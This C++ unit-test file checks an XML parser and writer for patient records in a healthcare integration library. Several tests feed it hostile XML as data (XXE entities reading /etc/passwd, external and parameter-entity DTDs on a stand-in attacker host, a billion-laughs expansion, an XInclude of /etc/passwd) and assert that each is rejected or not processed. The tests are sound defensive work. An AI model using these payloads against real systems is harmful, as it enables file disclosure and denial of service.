#include <gtest/gtest.h>

#include <atomic>
#include <string>
#include <thread>
#include <vector>

#include "caregate/format/compare.h"
#include "caregate/format/xml.h"
#include "test_util.h"

namespace caregate::format {
namespace {

using testing::ErrorPath;
using testing::Problem;
using testing::SpecExample;
using testing::Stopwatch;

constexpr const char* kDecl = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";

std::string Names(const SourceNode& n) {
  std::string out;
  for (const auto& c : n.children) out += (out.empty() ? "" : ",") + c.name;
  return out;
}

// ---------------------------------------------------------------- reading

TEST(XmlReader, ParsesSpecExample) {
  auto r = ParseXml(SpecExample("systmone-record.xml"));
  ASSERT_TRUE(r.ok()) << FormatErrors(r.errors());
  const SourceNode& root = *r;
  EXPECT_EQ(root.name, "ClientIntegrationResponse");
  EXPECT_EQ(root.kind, NodeKind::kObject);
  EXPECT_EQ(root.line, 2u);
  EXPECT_EQ(Names(root), "RequestUID,Function,FunctionVersion,ResponseUID,Response");
  const SourceNode* identity = root.child("Response")->child("Identity");
  ASSERT_NE(identity, nullptr);
  EXPECT_EQ(identity->child("NHSNumber")->kind, NodeKind::kString);
  EXPECT_EQ(identity->child("NHSNumber")->value, "9912003888");
  EXPECT_EQ(identity->child("NHSNumber")->line, 9u);
  const SourceNode* demo = root.child("Response")->child("Demographics");
  EXPECT_EQ(demo->child("EmailAddress")->kind, NodeKind::kString);
  EXPECT_EQ(demo->child("EmailAddress")->value, "");
  const SourceNode* event = root.child("Response")->child("Clinical")->child("Event");
  ASSERT_NE(event, nullptr);
  EXPECT_EQ(Names(*event), "@DateTime,@DoneAt,@DoneBy,@EventUID,@UserName,Narrative,ClinicalCode");
  EXPECT_EQ(event->child("@DoneBy")->value, "JONES, Amy (Occupational Therapist)");
  const SourceNode* code = event->child("ClinicalCode")->child("Code");
  EXPECT_EQ(code->kind, NodeKind::kObject);
  EXPECT_EQ(Names(*code), "@Code,@Scheme,@Term");
  EXPECT_EQ(code->child("@Scheme")->value, "CTV3");
}

TEST(XmlReader, ConvertsTextAttributesAndMixedContent) {
  auto r = ParseXml(
      "<r>"
      "<exact>  two  spaces\n</exact>"
      "<attr x=\"1\" y='2'>hi</attr>"
      "<attrempty x=\"1\"></attrempty>"
      "<attrspace x=\"1\"> </attrspace>"
      "<ws>\n  <c>1</c>\n  <c>2</c>\n</ws>"
      "<mixed a=\"1\">lead<c/>tail</mixed>"
      "<empty/><empty2></empty2>"
      "<cdata><![CDATA[a<b & c]]></cdata>"
      "<refs>&lt;&amp;&gt;&quot;&apos;&#233;&#x1F600;</refs>"
      "<amp v=\"a&amp;b&#38;c&lt;&#10;\"/>"
      "<commented>a<!-- gone -->b<?pi gone?>c</commented>"
      "</r>");
  ASSERT_TRUE(r.ok()) << FormatErrors(r.errors());
  const SourceNode& root = *r;
  EXPECT_EQ(root.child("exact")->value, "  two  spaces\n");
  const SourceNode* attr = root.child("attr");
  EXPECT_EQ(attr->kind, NodeKind::kObject);
  EXPECT_EQ(Names(*attr), "@x,@y,#text");
  EXPECT_EQ(attr->child("#text")->value, "hi");
  EXPECT_EQ(Names(*root.child("attrempty")), "@x");
  EXPECT_EQ(root.child("attrspace")->child("#text")->value, " ");
  const SourceNode* ws = root.child("ws");
  EXPECT_EQ(Names(*ws), "c,c");
  EXPECT_EQ(ws->children[1].value, "2");
  const SourceNode* mixed = root.child("mixed");
  EXPECT_EQ(Names(*mixed), "@a,#text,c");
  EXPECT_EQ(mixed->child("#text")->value, "leadtail");
  EXPECT_EQ(root.child("empty")->kind, NodeKind::kString);
  EXPECT_EQ(root.child("empty")->value, "");
  EXPECT_EQ(root.child("empty2")->kind, NodeKind::kString);
  EXPECT_EQ(root.child("cdata")->value, "a<b & c");
  EXPECT_EQ(root.child("refs")->value, "<&>\"'\xC3\xA9\xF0\x9F\x98\x80");
  EXPECT_EQ(root.child("amp")->child("@v")->value, "a&b&c<\n");
  EXPECT_EQ(root.child("commented")->value, "abc");
}

TEST(XmlReader, UsesLocalNames) {
  auto r = ParseXml("<s1:A xmlns:s1=\"urn:tpp\" s1:b=\"1\" c=\"2\"><s1:C>v</s1:C><s1:D>w</s1:D></s1:A>");
  ASSERT_TRUE(r.ok()) << FormatErrors(r.errors());
  EXPECT_EQ(r->name, "A");
  EXPECT_EQ(Names(*r), "@b,@c,C,D");
  EXPECT_EQ(r->child("C")->value, "v");
  // A default namespace on the root is the document's own too.
  auto d = ParseXml("<A xmlns=\"urn:tpp\"><C>v</C></A>");
  ASSERT_TRUE(d.ok()) << FormatErrors(d.errors());
  EXPECT_EQ(d->child("C")->value, "v");
}

// Local names would make <x:NHSNumber xmlns:x="urn:other"> read as our NHSNumber. An
// element or attribute outside the document's own namespace keeps its expanded name
// ("{uri}local"), which matches nothing of ours, and the document is accepted (spec 1:
// unknown elements never make a record invalid).
TEST(XmlReader, KeepsNamesFromAnotherNamespaceExpanded) {
  struct Case {
    std::string text, names;
  };
  for (const Case& c : std::vector<Case>{
           {"<A><x:NHSNumber xmlns:x=\"urn:other\">9434765919</x:NHSNumber></A>", "{urn:other}NHSNumber"},
           {"<s1:A xmlns:s1=\"urn:tpp\"><s1:C>v</s1:C><D>w</D></s1:A>", "C,{}D"},
           {"<A xmlns=\"urn:tpp\"><B xmlns=\"urn:other\"/></A>", "{urn:other}B"},
           {"<A xmlns:x=\"urn:other\" x:id=\"1\" id=\"2\"/>", "@{urn:other}id,@id"},
           {"<A xmlns:x=\"urn:x\" xmlns:y=\"urn:y\" x:b=\"1\" y:b=\"2\"/>", "@{urn:x}b,@{urn:y}b"},
       }) {
    auto r = ParseXml(c.text);
    ASSERT_TRUE(r.ok()) << c.text << ": " << FormatErrors(r.errors());
    EXPECT_EQ(Names(*r), c.names) << c.text;
  }
  auto r = ParseXml("<A><x:NHSNumber xmlns:x=\"urn:other\">9434765919</x:NHSNumber></A>");
  EXPECT_EQ(r->child("NHSNumber"), nullptr);
  EXPECT_EQ(r->child("{urn:other}NHSNumber")->value, "9434765919");
  // A foreign element's children, whatever their namespace, are under it.
  auto nested = ParseXml("<A xmlns:x=\"urn:x\"><x:B><C>1</C><x:D>2</x:D></x:B></A>");
  ASSERT_TRUE(nested.ok());
  EXPECT_EQ(Names(*nested->child("{urn:x}B")), "C,{urn:x}D");
}

// Written back with a prefix bound where it is used, and read back to the same names.
TEST(XmlWriter, WritesExpandedNamesAsNamespacedXml) {
  const std::string text =
      "<A xmlns:x=\"urn:x\" xmlns:y=\"urn:y\"><x:B x:k=\"1\" y:k=\"2\" k=\"3\"><C>v</C></x:B><x:E>w</x:E></A>";
  auto first = ParseXml(text);
  ASSERT_TRUE(first.ok()) << FormatErrors(first.errors());
  const std::string written = WriteXmlDocument(*first);
  EXPECT_NE(written.find("<p:B xmlns:p=\"urn:x\" xmlns:a1=\"urn:x\" a1:k=\"1\" xmlns:a2=\"urn:y\" a2:k=\"2\" k=\"3\">"),
            std::string::npos)
      << written;
  auto second = ParseXml(written);
  ASSERT_TRUE(second.ok()) << written << ": " << FormatErrors(second.errors());
  EXPECT_EQ(WriteXmlDocument(*second), written);
  EXPECT_EQ(Names(*second->child("{urn:x}B")), "@{urn:x}k,@{urn:y}k,@k,C");
}

// Found by fuzzing: the xml: prefix is bound in every document and may not be bound
// again, so xml:lang is written back as xml:lang.
TEST(XmlWriter, XmlNamespaceAttributesKeepTheXmlPrefix) {
  auto first = ParseXml("<r><a xml:lang=\"en\">t</a></r>");
  ASSERT_TRUE(first.ok()) << FormatErrors(first.errors());
  EXPECT_EQ(Names(*first->child("a")), "@{http://www.w3.org/XML/1998/namespace}lang,#text");
  const std::string written = WriteXmlDocument(*first);
  EXPECT_NE(written.find("<a xml:lang=\"en\">"), std::string::npos) << written;
  auto second = ParseXml(written);
  ASSERT_TRUE(second.ok());
  EXPECT_EQ(WriteXmlDocument(*second), written);
}

// Found in review: an element in the XML namespace is written with xml:, as attributes are.
TEST(XmlWriter, XmlNamespaceElementsKeepTheXmlPrefix) {
  auto first = ParseXml("<r><xml:foo>1</xml:foo></r>");
  ASSERT_TRUE(first.ok()) << FormatErrors(first.errors());
  EXPECT_EQ(Names(*first), "{http://www.w3.org/XML/1998/namespace}foo");
  const std::string written = WriteXmlDocument(*first);
  EXPECT_NE(written.find("<xml:foo>1</xml:foo>"), std::string::npos) << written;
  auto second = ParseXml(written);
  ASSERT_TRUE(second.ok());
  EXPECT_EQ(WriteXmlDocument(*second), written);
}

// Found by fuzzing: a namespace name may hold '}' (the local name never does).
TEST(XmlWriter, NamespaceNameWithABraceRoundTrips) {
  auto first = ParseXml("<r xmlns:s=\"u}n:x\"><s:a s:k=\"1\">t</s:a></r>");
  ASSERT_TRUE(first.ok()) << FormatErrors(first.errors());
  EXPECT_EQ(Names(*first), "{u}n:x}a");
  const std::string written = WriteXmlDocument(*first);
  auto second = ParseXml(written);
  ASSERT_TRUE(second.ok()) << written << ": " << FormatErrors(second.errors());
  EXPECT_EQ(WriteXmlDocument(*second), written);
  EXPECT_EQ(Names(*second->child("{u}n:x}a")), "@{u}n:x}k,#text");
}

TEST(XmlReader, RejectsClashingAttributeLocalNames) {
  // (Two prefixes of two namespaces cannot both be the document's: refused before this.)
  auto r = ParseXml("<x:a xmlns:x=\"urn:x\" b=\"1\" x:b=\"2\"/>");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(Problem(r).find("attribute 'b' appears twice"), std::string::npos) << Problem(r);
}

// Found by fuzzing: "x:lns:y" has local name "lns:y", which reads back as "y".
TEST(XmlReader, RejectsNamesWithTwoColons) {
  for (std::string text : {"<a xmlns:x=\"urn:x\" x:lns:y=\"1\"/>", "<x:b:c xmlns:x=\"urn:x\"/>",
                           "<a><x:b:c xmlns:x=\"urn:x\">t</x:b:c></a>"}) {
    auto r = ParseXml(text);
    ASSERT_FALSE(r.ok()) << text;
    EXPECT_NE(Problem(r).find("is not a valid qualified name"), std::string::npos) << Problem(r);
  }
  // A prefix that was never declared has no namespace: below the root the name keeps
  // its prefix, so <x:NHSNumber> is never read as our NHSNumber (found in review).
  auto undeclared = ParseXml("<y:a y:b=\"1\" b=\"2\"><x:NHSNumber>9912003888</x:NHSNumber></y:a>");
  ASSERT_TRUE(undeclared.ok()) << FormatErrors(undeclared.errors());
  EXPECT_EQ(undeclared->name, "a");
  EXPECT_EQ(Names(*undeclared), "@y:b,@b,x:NHSNumber");
  const std::string written = WriteXmlDocument(*undeclared);
  auto again = ParseXml(written);
  ASSERT_TRUE(again.ok()) << written;
  EXPECT_EQ(WriteXmlDocument(*again), written);
  EXPECT_EQ(Names(*again), "@y:b,@b,x:NHSNumber");
}

TEST(XmlReader, AcceptsUtf8DeclarationAndBom) {
  EXPECT_TRUE(ParseXml("<?xml version=\"1.0\" encoding=\"utf-8\"?><a>x</a>").ok());
  EXPECT_TRUE(ParseXml("\xEF\xBB\xBF<?xml version=\"1.0\"?><a>\xC3\xA9</a>").ok());
  EXPECT_TRUE(ParseXml("<a>x</a>\n<!-- trailing comment -->\n").ok());
}

TEST(XmlReader, RejectsOtherEncodings) {
  auto latin = ParseXml("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>\xE9</a>");
  ASSERT_FALSE(latin.ok());
  EXPECT_NE(Problem(latin).find("only UTF-8 is accepted"), std::string::npos) << Problem(latin);
  auto ascii = ParseXml("<?xml version=\"1.0\" encoding=\"US-ASCII\"?><a>x</a>");
  ASSERT_FALSE(ascii.ok());
  EXPECT_NE(Problem(ascii).find("only UTF-8 is accepted"), std::string::npos) << Problem(ascii);
  // UTF-16LE with a BOM: "<a/>"
  const std::string utf16("\xFF\xFE<\0a\0/\0>\0", 10);
  EXPECT_FALSE(ParseXml(utf16).ok());
}

TEST(XmlReader, RejectsXxe) {
  auto r = ParseXml(std::string(kDecl) +
                    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n<x>&e;</x>");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(Problem(r).find("DTD not allowed"), std::string::npos) << Problem(r);
  EXPECT_EQ(Problem(r).find("root:"), std::string::npos);
}

TEST(XmlReader, RejectsParameterEntities) {
  auto r = ParseXml(
      "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://attacker.invalid/evil.dtd\"> %p;"
      "<!ENTITY % q \"<!ENTITY leak 'x'>\"> %q;]><x>&leak;</x>");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(Problem(r).find("DTD not allowed"), std::string::npos) << Problem(r);
}

TEST(XmlReader, RejectsBillionLaughsFast) {
  std::string text = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n";
  text += "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n";
  for (int i = 2; i <= 9; ++i) {
    std::string prev = "&lol" + std::to_string(i - 1) + ";";
    text += "<!ENTITY lol" + std::to_string(i) + " \"";
    for (int k = 0; k < 10; ++k) text += prev;
    text += "\">\n";
  }
  text += "]>\n<lolz>&lol9;</lolz>";
  Stopwatch watch;
  auto r = ParseXml(text);
  EXPECT_LT(watch.seconds(), 1.0);
  ASSERT_FALSE(r.ok());
  EXPECT_NE(Problem(r).find("DTD not allowed"), std::string::npos) << Problem(r);
  EXPECT_NE(Problem(r).find("line 2"), std::string::npos) << Problem(r);
}

TEST(XmlReader, RejectsExternalDtd) {
  for (std::string text : {"<!DOCTYPE x SYSTEM \"http://attacker.invalid/x.dtd\"><x/>",
                           "<!DOCTYPE x PUBLIC \"-//X//DTD X//EN\" \"file:///etc/passwd\"><x/>",
                           "<!DOCTYPE x><x/>"}) {
    auto r = ParseXml(text);
    ASSERT_FALSE(r.ok()) << text;
    EXPECT_NE(Problem(r).find("DTD not allowed"), std::string::npos) << Problem(r);
  }
}

TEST(XmlReader, RejectsUndeclaredEntity) {
  auto r = ParseXml("<x>&nbsp;</x>");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(Problem(r).find("not well-formed XML at line 1"), std::string::npos) << Problem(r);
  EXPECT_NE(Problem(r).find("nbsp"), std::string::npos) << Problem(r);
}

TEST(XmlReader, RejectsXIncludeAsPlainElement) {
  // XInclude is never processed, nothing is fetched: in a document of its own namespace
  // the element is plain data; inside one of ours it is a foreign element, kept as data.
  auto own = ParseXml(
      "<xi:x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" "
      "parse=\"text\"/></xi:x>");
  ASSERT_TRUE(own.ok()) << FormatErrors(own.errors());
  EXPECT_EQ(Names(*own->child("include")), "@href,@parse");
  auto foreign = ParseXml(
      "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" "
      "parse=\"text\"/></x>");
  ASSERT_TRUE(foreign.ok()) << FormatErrors(foreign.errors());
  EXPECT_EQ(Names(*foreign->child("{http://www.w3.org/2001/XInclude}include")), "@href,@parse");
}

TEST(XmlReader, RejectsVeryDeepNestingFast) {
  const int n = 200000;
  std::string text;
  text.reserve(static_cast<std::size_t>(n) * 8);
  for (int i = 0; i < n; ++i) text += "<a>";
  for (int i = 0; i < n; ++i) text += "</a>";
  XmlLimits limits;
  limits.max_bytes = text.size();
  Stopwatch watch;
  auto r = ParseXml(text, limits);
  EXPECT_LT(watch.seconds(), 1.0);
  ASSERT_FALSE(r.ok());
  EXPECT_NE(Problem(r).find("nested deeper than 64 levels"), std::string::npos) << Problem(r);
  // With our cap lifted, libxml2's own limit (256) still stops it quickly.
  limits.max_depth = 1000000;
  Stopwatch watch2;
  auto r2 = ParseXml(text, limits);
  EXPECT_LT(watch2.seconds(), 1.0);
  ASSERT_FALSE(r2.ok());
  EXPECT_NE(Problem(r2).find("Excessive depth"), std::string::npos) << Problem(r2);
}

TEST(XmlReader, AcceptsDepthUpToLimit) {
  auto nest = [](int n) {
    std::string t;
    for (int i = 0; i < n; ++i) t += "<a>";
    t += "x";
    for (int i = 0; i < n; ++i) t += "</a>";
    return t;
  };
  EXPECT_TRUE(ParseXml(nest(64)).ok());
  auto r = ParseXml(nest(65));
  ASSERT_FALSE(r.ok());
  std::string path;
  for (int i = 0; i < 65; ++i) path += "/a";
  EXPECT_EQ(ErrorPath(r), path);  // 64 open elements plus the offending one
}

TEST(XmlReader, RejectsTooManyAttributesFast) {
  std::string text = "<a";
  for (int i = 0; text.size() < (std::size_t{4} << 20) - 100; ++i) text += " a" + std::to_string(i) + "=\"\"";
  text += "/>";
  Stopwatch watch;
  auto r = ParseXml(text);
  EXPECT_LT(watch.seconds(), 1.0);
  ASSERT_FALSE(r.ok());
  EXPECT_NE(Problem(r).find("more than 256 attributes"), std::string::npos) << Problem(r);
}

TEST(XmlReader, CountsAttributesOnlyInStartTags) {
  // '=' and quotes inside comments, CDATA, PIs, text and attribute values are not
  // attributes; two attributes per element is within a limit of two.
  const std::string text =
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><?pi a=1 b=2 c=3 ?>"
      "<!-- x=1 y=2 z=3 <a b=1 c=2 d=3> - ->-->"
      "<r a=\"1\" b='2'>"
      "<![CDATA[<e f=1 g=2 h=3>]]]]]>"
      "<s x=\"a=b>c='d'\" y='e\"=\"f'>g=h=i</s>"
      "<t\n  x = \"1\"\n  y\t=\t'2'/>"
      "</r>";
  XmlLimits limits;
  limits.max_attributes = 2;
  auto r = ParseXml(text, limits);
  ASSERT_TRUE(r.ok()) << FormatErrors(r.errors());
  EXPECT_EQ(r->child("s")->child("@x")->value, "a=b>c='d'");
  for (std::size_t chunk : {1, 2, 3, 5}) {
    XmlStreamReader::SetChunkSizeForTesting(chunk);
    auto s = XmlStreamReader::OpenMemory(text, limits);
    XmlStreamReader::SetChunkSizeForTesting(0);
    ASSERT_TRUE(s.ok()) << chunk << ": " << FormatErrors(s.errors());
    Expected<SourceNode> rec = SourceNode{};
    ASSERT_TRUE((*s)->Next(rec));
    EXPECT_TRUE(rec.ok()) << chunk << ": " << FormatErrors(rec.errors());
  }
  const std::string three = "<r><!-- a=b --><s a=\"1\" b=\"2\" xmlns:c=\"urn:c\"/></r>";
  auto bad = ParseXml(three, limits);
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(Problem(bad).find("more than 2 attributes"), std::string::npos) << Problem(bad);
  XmlStreamReader::SetChunkSizeForTesting(1);
  auto s = XmlStreamReader::OpenMemory(three, limits);
  XmlStreamReader::SetChunkSizeForTesting(0);
  bool rejected = !s.ok();
  if (s.ok()) {
    Expected<SourceNode> rec = SourceNode{};
    while ((*s)->Next(rec)) rejected = rejected || !rec.ok();
  }
  EXPECT_TRUE(rejected);
}

TEST(XmlReader, RejectsOversize) {
  XmlLimits limits;
  limits.max_bytes = 64;
  auto r = ParseXml("<a>" + std::string(100, 'x') + "</a>", limits);
  ASSERT_FALSE(r.ok());
  EXPECT_NE(Problem(r).find("larger than the limit of 64 bytes"), std::string::npos) << Problem(r);
  EXPECT_TRUE(ParseXml("<a>" + std::string(50, 'x') + "</a>", limits).ok());
}

TEST(XmlReader, RejectsInvalidUtf8) {
  const std::string cases[] = {
      "<a>\xC3\x28</a>",          // bad continuation
      "<a>\xC0\xAF</a>",          // overlong
      "<a>\xED\xA0\x80</a>",      // surrogate
      "<a v=\"\xC3\x28\"/>",      // in an attribute
      "<a\xC3\x28/>",             // in a name
      "<a>ok</a><!-- \xFF -->",   // in a comment
  };
  for (const auto& text : cases) {
    auto r = ParseXml(text);
    ASSERT_FALSE(r.ok()) << text;
    EXPECT_NE(Problem(r).find("line 1"), std::string::npos) << Problem(r);
  }
  auto r = ParseXml("<a>\n<b>\xC3\x28</b></a>");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(Problem(r).find("text is not valid UTF-8 at line 2"), std::string::npos) << Problem(r);
  EXPECT_EQ(ErrorPath(r), "/a/b");
}

TEST(XmlReader, RejectsNotWellFormed) {
  auto r = ParseXml("<a>\n  <b>x</c>\n</a>");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(Problem(r).find("not well-formed XML at line 2"), std::string::npos) << Problem(r);
  EXPECT_NE(Problem(r).find("mismatch"), std::string::npos) << Problem(r);
  for (std::string text : {"<a><b></a>", "<a x=1/>", "<a x=\"1\" x=\"2\"/>", "<a/><b/>", "text", "<a>&#0;</a>",
                           "<a>\x01</a>", "<a>&#xD800;</a>", "<1a/>", "<a/>junk", "<a>&amp</a>"}) {
    auto bad = ParseXml(text);
    EXPECT_FALSE(bad.ok()) << text;
    EXPECT_NE(Problem(bad).find("not well-formed XML"), std::string::npos) << text << ": " << Problem(bad);
  }
}

TEST(XmlReader, RejectsNulByteAndEmptyInput) {
  auto nul = ParseXml(std::string("<a/>\0<b/>", 9));
  ASSERT_FALSE(nul.ok());
  EXPECT_NE(Problem(nul).find("NUL byte at offset 4"), std::string::npos) << Problem(nul);
  for (std::string text : {"", "  \n"}) {
    auto r = ParseXml(text);
    ASSERT_FALSE(r.ok());
    EXPECT_NE(Problem(r).find("empty"), std::string::npos) << Problem(r);
  }
  auto only_decl = ParseXml(kDecl);
  EXPECT_FALSE(only_decl.ok());
}

TEST(XmlReader, RejectsTruncatedDocuments) {
  const std::string text = SpecExample("systmone-record.xml");
  const std::size_t end = text.rfind("</ClientIntegrationResponse>");
  int rejected = 0;
  for (std::size_t cut = 1; cut < end + 20; cut += 41) {
    auto r = ParseXml(std::string_view(text).substr(0, cut));
    ASSERT_FALSE(r.ok()) << "accepted a document truncated at byte " << cut;
    ++rejected;
  }
  EXPECT_GT(rejected, 50);
}

TEST(XmlReader, PrintsNothingOnHostileInput) {
  ::testing::internal::CaptureStderr();
  ::testing::internal::CaptureStdout();
  int failures = 0;
  for (std::string text : {"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "<a><b></a>",
                           "<a>\xC3\x28</a>", "<a>&undefined;</a>", "<x:a/>"}) {
    failures += ParseXml(text).ok() ? 0 : 1;
    auto s = XmlStreamReader::OpenMemory(text);
    if (s.ok()) {
      Expected<SourceNode> rec = SourceNode{};
      while ((*s)->Next(rec)) {
      }
    }
  }
  std::string err = ::testing::internal::GetCapturedStderr();
  std::string out = ::testing::internal::GetCapturedStdout();
  EXPECT_EQ(err, "");
  EXPECT_EQ(out, "");
  EXPECT_EQ(failures, 4);  // the undeclared namespace prefix alone is accepted
}

TEST(XmlReader, ParsesInParallelThreads) {
  const std::string good = SpecExample("systmone-record.xml");
  const std::string bad = "<a>\n<b>\xC3\x28</b></a>";
  auto expected = ParseXml(good);
  ASSERT_TRUE(expected.ok());
  std::atomic<int> wrong{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&] {
      for (int i = 0; i < 100; ++i) {
        auto r = ParseXml(good);
        if (!r.ok() || !SameContent(*r, *expected)) ++wrong;
        auto e = ParseXml(bad);
        if (e.ok() || Problem(e).find("at line 2") == std::string::npos) ++wrong;
        auto s = XmlStreamReader::OpenMemory(good);
        Expected<SourceNode> rec = SourceNode{};
        if (!s.ok() || !(*s)->Next(rec) || !rec.ok() || !SameContent(*rec, *expected)) ++wrong;
      }
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(wrong.load(), 0);
}

// ---------------------------------------------------------------- writing

TEST(XmlWriter, RoundTripsSpecExample) {
  auto first = ParseXml(SpecExample("systmone-record.xml"));
  ASSERT_TRUE(first.ok()) << FormatErrors(first.errors());
  for (bool pretty : {false, true}) {
    std::string text = WriteXmlDocument(*first, pretty);
    EXPECT_EQ(text.rfind(kDecl, 0), 0u);
    auto second = ParseXml(text);
    ASSERT_TRUE(second.ok()) << FormatErrors(second.errors());
    EXPECT_EQ(FirstDifference(*first, *second), "") << text;
    EXPECT_EQ(WriteXmlDocument(*second, pretty), text);
  }
}

TEST(XmlWriter, PrettyMatchesSpecLayout) {
  // The spec example is itself two-space indented with self-closing empty elements,
  // so pretty output reproduces it byte for byte.
  const std::string original = SpecExample("systmone-record.xml");
  auto parsed = ParseXml(original);
  ASSERT_TRUE(parsed.ok());
  EXPECT_EQ(WriteXmlDocument(*parsed, true), original);
}

TEST(XmlWriter, WritesArraysAsRepeatedElements) {
  SourceNode plan;
  plan.name = "CarePlan";
  SourceNode& goals = plan.add("Goal", NodeKind::kArray);
  goals.add("", NodeKind::kObject).add("GoalUID", NodeKind::kString, "g1");
  goals.add("", NodeKind::kObject).add("GoalUID", NodeKind::kString, "g2");
  goals.add("", NodeKind::kNull);
  plan.add("Nothing", NodeKind::kNull);
  plan.add("EmptyList", NodeKind::kArray);
  std::string out;
  AppendXml(out, plan, 0, false);
  EXPECT_EQ(out, "<CarePlan><Goal><GoalUID>g1</GoalUID></Goal><Goal><GoalUID>g2</GoalUID></Goal></CarePlan>");
}

TEST(XmlWriter, WritesScalarsAttributesAndText) {
  SourceNode n;
  n.name = "Code";
  n.add("@Code", NodeKind::kString, "a\"<&>\n\t\r");
  n.add("@Missing", NodeKind::kNull);
  n.add("#text", NodeKind::kString, "x<y & z > 'q' \"r\"\r");
  n.add("Count", NodeKind::kNumber, "7");
  n.add("Flag", NodeKind::kBool, "true");
  n.add("Empty", NodeKind::kString, "");
  std::string out;
  AppendXml(out, n);
  EXPECT_EQ(out,
            "<Code Code=\"a&quot;&lt;&amp;&gt;&#10;&#9;&#13;\">x&lt;y &amp; z &gt; 'q' \"r\"&#13;"
            "<Count>7</Count><Flag>true</Flag><Empty/></Code>");
  auto back = ParseXml(out);
  ASSERT_TRUE(back.ok()) << FormatErrors(back.errors());
  EXPECT_EQ(back->child("@Code")->value, "a\"<&>\n\t\r");
  EXPECT_EQ(back->child("#text")->value, "x<y & z > 'q' \"r\"\r");
}

TEST(XmlWriter, WritesEmptyForms) {
  SourceNode attrs_only;
  attrs_only.name = "A";
  attrs_only.add("@x", NodeKind::kString, "1");
  EXPECT_EQ(WriteXmlDocument(attrs_only), std::string(kDecl) + "<A x=\"1\"/>\n");
  SourceNode empty_obj;
  empty_obj.name = "B";
  EXPECT_EQ(WriteXmlDocument(empty_obj, true), std::string(kDecl) + "<B/>\n");
  SourceNode empty_str{"C", "", NodeKind::kString, 0, {}};
  std::string out;
  AppendXml(out, empty_str, 3, true);
  EXPECT_EQ(out, "      <C/>\n");
}

TEST(XmlWriter, PrettyIndentsButKeepsMixedContentCompact) {
  auto r = ParseXml("<r><a><b>1</b></a><m>t<i>x</i>u</m></r>");
  ASSERT_TRUE(r.ok());
  std::string out;
  AppendXml(out, *r, 0, true);
  EXPECT_EQ(out,
            "<r>\n"
            "  <a>\n"
            "    <b>1</b>\n"
            "  </a>\n"
            "  <m>tu<i>x</i></m>\n"
            "</r>\n");
  auto back = ParseXml(out);
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(FirstDifference(*r, *back), "");
}

TEST(XmlWriter, ReplacesCharactersXmlCannotCarry) {
  SourceNode n{"a", std::string("x\x01y\0z\xEF\xBF\xBEw", 9), NodeKind::kString, 0, {}};
  std::string out;
  AppendXml(out, n);
  EXPECT_EQ(out, "<a>x\xEF\xBF\xBDy\xEF\xBF\xBDz\xEF\xBF\xBDw</a>");
  EXPECT_TRUE(ParseXml(out).ok());
}

}  // namespace
}  // namespace caregate::format
